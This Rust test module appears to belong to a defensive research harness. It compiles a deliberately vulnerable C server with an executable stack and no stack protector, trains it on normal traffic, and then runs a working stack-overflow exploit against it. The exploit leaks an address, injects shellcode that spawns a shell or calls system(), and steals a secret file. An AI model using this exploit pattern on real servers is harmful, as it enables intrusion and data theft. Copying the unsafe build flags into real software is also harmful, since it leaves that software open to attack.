//! The project's own small server (server.c), whose executable stack can be overflowed.

use std::fs;
use std::io;
use std::path::{Path, PathBuf};
use std::process::Command;

use tempfile::TempDir;

use crate::client::{ClientConnection, Rng, free_port, many};
use crate::experiment::{AttackedServer, Experiment, Training};
use crate::harness::eventually;
use crate::harness::job::folder;
use crate::source;
use crate::up::{RunningServers, ServerProgram};

/// Size of the server's buffer for a note.
const NOTE: usize = 512;
/// Bytes from the end of the buffer to beyond the return address; the attack fills all of them with
/// its address.
const BEYOND: usize = 128;

const SECRET: &[u8] = b"the secret\n";

/// Bytes that the code sends before the file.
const HEAD: usize = 4;

/// The worker's descriptor of its only connection.
const CLIENT: u32 = 5;

pub struct CServer {
    folder: TempDir,
    port: u16,
    payload: Vec<u8>,
    attack: &'static str,
}

/// Runs gcc or nm and returns its output.
fn build(command: &str, more: &[&Path]) -> Vec<u8> {
    let mut words = command.split(' ');
    let mut builder = Command::new(words.next().expect("a name"));
    let output = builder.args(words).args(more).output();
    let output =
        output.unwrap_or_else(|error| panic!("{command}: {error}; `make setup` installs it"));
    assert!(output.status.success(), "{command}: {}", String::from_utf8_lossy(&output.stderr));
    output.stdout
}

impl CServer {
    /// `kind` is one of the variants in payload.S.
    pub fn new(kind: &str) -> Self {
        let folder = folder();
        let server = folder.path().join("server");
        build(
            "gcc -O1 -Wall -Wextra -Werror -static -no-pie -fno-stack-protector \
            -fcf-protection=none \
             -z execstack -Wl,-u,system -o",
            &[&server, &source("server.c")],
        );
        fs::write(folder.path().join("greeting"), "hello\n").expect("it can be written");
        for (name, size) in [("small", 100), ("large", 50_000)] {
            fs::write(folder.path().join(name), vec![b'.'; size]).expect("it can be written");
        }
        fs::write(folder.path().join("secret"), SECRET).expect("it can be written");
        let mut it = Self { folder, port: free_port(), payload: Vec::new(), attack: "" };
        it.send_code(kind);
        it
    }

    /// Selects the code of payload.S for the next attacks.
    pub fn send_code(&mut self, kind: &str) {
        let symbols = String::from_utf8(build("nm", &[&self.path("server")])).expect("text");
        let system = symbols
            .lines()
            .find_map(|line| line.strip_suffix(" W system"))
            .expect("the C library's");
        self.attack = match kind {
            "SYSTEM" => "a stack overflow, whose code calls system()",
            "FORK" => "a stack overflow, whose code forks, redirects and executes a shell",
            "EXECVE" => "a stack overflow, whose code executes a shell in place of the server",
            _ => "a stack overflow, whose code sends a file as the server does",
        };
        let kind = if kind == "SYSTEM" { format!("SYSTEM=0x{system}") } else { kind.to_owned() };
        let (object, code) = (self.path("payload.o"), self.path("payload"));
        let folder = self.folder.path().display();
        build(
            &format!("gcc -c -D{kind} -DCLIENT={CLIENT} -DFOLDER=\"{folder}\" -o"),
            &[&object, &source("payload.S")],
        );
        build("objcopy -O binary -j .text", &[&object, &code]);
        self.payload = fs::read(code).expect("it was made");
    }

    pub fn remove_effect(&self) {
        let _ = fs::remove_file(self.effect());
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn connect(&self) -> io::Result<ClientConnection> {
        let mut connection = ClientConnection::to(self.port)?;
        connection.line()?;
        Ok(connection)
    }

    fn request(&self, connection: &mut ClientConnection, dice: &mut Rng) -> io::Result<()> {
        match dice.below(10) {
            0..=3 => get(connection, "small"),
            4 => get(connection, "large"),
            5 => get(connection, "missing"),
            6 => put(connection, &format!("upload-{}", dice.below(10)), 1 + dice.below(30_000)),
            7 | 8 => note(connection, &vec![b'n'; 1 + dice.below(NOTE)]).map(drop),
            _ => {
                connection.send(b"NONSENSE\n")?;
                connection.line().map(drop)
            }
        }
    }

    fn rotate_log(&self, up: &RunningServers) {
        fs::rename(self.path("log"), self.path("log.1")).expect("there is a log");
        up.signal("server", libc::SIGUSR1);
        eventually("a new log", || self.path("log").exists());
    }
}

fn get(connection: &mut ClientConnection, name: &str) -> io::Result<()> {
    connection.send(format!("GET {name}\n").as_bytes())?;
    let head = connection.line()?;
    match head.strip_prefix("200 ") {
        Some(length) => connection.bytes(length.parse().expect("a length")).map(drop),
        None => Ok(()),
    }
}

/// A request that is sent by one call. With two calls, it would depend on the time between them
/// whether the server reads once or twice, so a busy machine would have sequences that the server
/// has not learned.
fn request(line: &str, body: &[u8]) -> Vec<u8> {
    [line.as_bytes(), b"\n", body].concat()
}

fn put(connection: &mut ClientConnection, name: &str, length: usize) -> io::Result<()> {
    connection.send(&request(&format!("PUT {name} {length}"), &vec![b'+'; length]))?;
    connection.line().map(drop)
}

fn note(connection: &mut ClientConnection, text: &[u8]) -> io::Result<String> {
    connection.send(&request(&format!("NOTE {}", text.len()), text))?;
    connection.line()
}

impl AttackedServer for CServer {
    const NAME: &'static str = "C server";
    const TRAINING: Training =
        Training { times: 12, rounds: 10, most_clients: 4, requests: 250, longest: 20 };

    fn attack_description(&self) -> &'static str {
        self.attack
    }

    fn programs(&self) -> Vec<ServerProgram> {
        let command = vec![
            self.path("server").into(),
            self.port.to_string().into(),
            self.folder.path().into(),
        ];
        vec![ServerProgram { name: "server", command, environment: Vec::new(), end: libc::SIGTERM }]
    }

    fn is_ready(&self) -> bool {
        ClientConnection::with_short_timeout(self.port)
            .and_then(|mut connection| connection.line())
            .is_ok()
    }

    /// Sends `count` requests, at most `longest` over one connection.
    fn requests(&self, dice: &mut Rng, count: usize, longest: usize) {
        let mut left = count;
        while left > 0 {
            // A client whose worker has ended must connect again.
            let Ok(mut connection) = self.connect() else { continue };
            for _ in 0..(1 + dice.below(longest)).min(left) {
                if self.request(&mut connection, dice).is_err() {
                    break;
                }
                left -= 1;
            }
        }
    }

    fn event(&self, up: &RunningServers, number: usize) {
        match number {
            0 => up.signal("server", libc::SIGHUP),
            1 => self.rotate_log(up),
            2 => up.restart_worker("server", libc::SIGTERM),
            _ => up.restart_worker("server", libc::SIGKILL),
        }
    }

    fn use_normally(&self, up: &RunningServers) -> usize {
        many(5, 4000, 101, |dice, count| self.requests(dice, count, 50), || ());
        up.restart_worker("server", libc::SIGKILL);
        many(1, 1000, 102, |dice, count| self.requests(dice, count, 1), || ());
        self.rotate_log(up);
        many(
            2,
            2500,
            103,
            |dice, count| self.requests(dice, count, 10),
            || {
                up.signal("server", libc::SIGHUP);
            },
        );
        many(4, 2500, 104, |dice, count| self.requests(dice, count, 1000), || ());
        4000 + 1000 + 2500 + 2500
    }

    fn attack(&self) {
        // The server ends before or after its reply.
        let _ = self.connect().and_then(|mut connection| {
            // The number of a note is its address.
            let number = note(&mut connection, b"hello")?;
            let address: u64 =
                number.strip_prefix("200 ").and_then(|text| text.parse().ok()).expect("a number");
            let mut overflow = self.payload.clone();
            overflow.resize(NOTE, 0x90);
            overflow.extend(address.to_le_bytes().repeat(BEYOND / 8));
            note(&mut connection, &overflow)?;
            // The code that reads the secret waits for one byte.
            connection.send(b"\n")?;
            let reply = connection.bytes(HEAD + SECRET.len())?;
            assert_eq!(&reply[HEAD..], SECRET);
            fs::write(self.effect(), reply)
        });
    }

    fn effect(&self) -> PathBuf {
        self.path("pwned")
    }
}

#[test]
fn stack_overflow_is_held() {
    let it = Experiment::new(CServer::new("SYSTEM"));
    it.is_held();
}
